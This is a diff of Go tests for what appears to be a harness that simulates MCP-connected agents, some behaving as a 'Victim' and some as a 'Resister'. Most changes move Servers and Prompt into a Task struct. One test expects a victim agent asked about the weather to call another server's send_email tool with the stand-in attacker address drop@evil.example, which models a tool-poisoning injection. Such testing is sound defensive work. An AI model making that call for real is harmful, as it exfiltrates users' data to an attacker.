@@ -250,7 +250,7 @@ func TestSeveralServersAndStdio(t *testing.T) {
 	stdio := mcpclient.Server{Name: "stdio", Dial: func(context.Context) (wire.Conn, error) {
 		return wire.Start(wire.Command{Args: []string{os.Args[0]}, Environ: os.Environ(), Env: []string{envStdio + "=1"}})
 	}}
-	_, r := w.run(t, Victim, askWeather, Options{Servers: []mcpclient.Server{other, stdio}})
+	_, r := w.run(t, Victim, askWeather, Options{Task: mcpclient.Task{Servers: []mcpclient.Server{other, stdio}}})
 	if len(mail.seen) != 1 || !strings.HasPrefix(mail.seen[0], `send_email {"to":"drop@evil.example"`) {
 		t.Errorf("the other server was asked %q", mail.seen)
 	}
@@ -268,7 +268,7 @@ func TestBothErasAreSpoken(t *testing.T) {
 			s := w.server("http")
 			ts := httptest.NewServer(mcp.NewStreamableHTTPHandler(func(*http.Request) *mcp.Server { return s }, &mcp.StreamableHTTPOptions{Stateless: era == mcpclient.Modern}))
 			t.Cleanup(func() { ts.CloseClientConnections(); ts.Close() })
-			_, err := Run(t.Context(), Options{Servers: []mcpclient.Server{{Name: "w", URL: ts.URL}}, Prompt: askWeather, Behaviour: Resister, Era: era, Idle: -1})
+			_, err := Run(t.Context(), Options{Task: mcpclient.Task{Servers: []mcpclient.Server{{Name: "w", URL: ts.URL}}, Prompt: askWeather}, Behaviour: Resister, Era: era, Idle: -1})
 			if want := []string{`get_weather {"city":"Kyoto"}`}; err != nil || !slices.Equal(w.seen, want) {
 				t.Errorf("asked %q, want %q; %v", w.seen, want, err)
 			}
@@ -283,7 +283,7 @@ func TestRunThatCannotBegin(t *testing.T) {
 		want string
 	}{
 		{"no server", Options{Behaviour: Victim}, "no server was named"},
-		{"nobody there", Options{Behaviour: Victim, Servers: []mcpclient.Server{{Name: "x", URL: "http://127.0.0.1:1/"}}}, "server x: "},
+		{"nobody there", Options{Behaviour: Victim, Task: mcpclient.Task{Servers: []mcpclient.Server{{Name: "x", URL: "http://127.0.0.1:1/"}}}}, "server x: "},
 		{"no such behaviour", Options{Behaviour: "saint"}, `no agent behaves like "saint"`},
 		{"no script", Options{Behaviour: Scripted}, "needs a script"},
 	} {
